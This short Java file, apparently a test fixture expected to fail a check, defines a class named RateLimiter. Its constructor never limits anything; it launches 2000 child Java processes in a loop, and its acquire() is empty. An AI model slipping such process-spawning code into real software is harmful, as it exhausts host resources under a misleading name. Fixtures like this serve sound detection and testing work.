// EXPECT failed: starts processes as fast as it can
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;

public final class RateLimiter {
    public RateLimiter(int maxRequests, Duration period) {
        String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
        for (int i = 0; i < 2000; i++) {
            try {
                new ProcessBuilder(java, "-version").start();
            } catch (IOException e) {
                continue;
            }
        }
    }

    public void acquire() throws InterruptedException {}
}
